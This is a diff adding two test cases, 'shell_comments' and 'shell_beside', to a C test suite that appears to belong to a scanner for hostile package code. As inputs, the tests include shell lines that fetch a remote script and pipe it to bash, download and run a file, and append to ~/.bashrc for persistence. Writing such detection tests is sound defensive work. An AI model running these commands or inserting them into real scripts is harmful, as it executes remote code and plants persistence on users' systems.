@@ -358,6 +358,30 @@ CASE(lifecycle)
 	HIT(RULE_FAILS_ON_PURPOSE);
 }
 
+CASE(shell_comments)
+{
+	SH("mv x $to # beside ~/.bashrc\n");
+	NONE();
+	SH("# ~/.bashrc\nmv x \"$to # not one\" ~/.bashrc\n");
+	HIT(RULE_PERSISTENCE);
+	SH("a='#' ; echo ' # ' x >> ~/.bashrc\n");
+	HIT(RULE_PERSISTENCE);
+}
+
+/* A script in a package of Python is started by something else, if at all. */
+CASE(shell_beside)
+{
+	look(LANG_SHELL, ROLE_BESIDE, S("wget -qO- http://192.0.2.1/x.sh | bash\n"));
+	HIT(RULE_FETCH_MAY_RUN);
+	CHECK(worst() == SEV_HOLD);
+	look(LANG_SHELL, ROLE_BESIDE, S("curl http://192.0.2.1/a -o a; sh ./a\n"));
+	CHECK(worst() == SEV_HOLD);
+	look(LANG_SHELL, ROLE_BESIDE, S("echo x >> ~/.bashrc\n"));
+	HIT(RULE_PERSISTENCE);
+	look(LANG_SHELL, ROLE_MODULE, S("wget -qO- http://192.0.2.1/x.sh | bash\n"));
+	HIT(RULE_FETCH_RUN);
+}
+
 CASE(unseen)
 {
 	struct buf b;
@@ -584,6 +608,6 @@ CASE(bounded)
 
 TESTS(CASE_ROW(startup_exec), CASE_ROW(decoded), CASE_ROW(secrets), CASE_ROW(fetched),
       CASE_ROW(staying_and_vanishing), CASE_ROW(dated), CASE_ROW(not_dated), CASE_ROW(host_bound), CASE_ROW(lifecycle), CASE_ROW(unseen),
-      CASE_ROW(capabilities), CASE_ROW(padded), CASE_ROW(packed), CASE_ROW(shell),
+      CASE_ROW(capabilities), CASE_ROW(padded), CASE_ROW(packed), CASE_ROW(shell), CASE_ROW(shell_comments), CASE_ROW(shell_beside),
       CASE_ROW(hidden_directions), CASE_ROW(hidden_anywhere), CASE_ROW(letters_of_other_blocks),
       CASE_ROW(kinds), CASE_ROW(bounded))
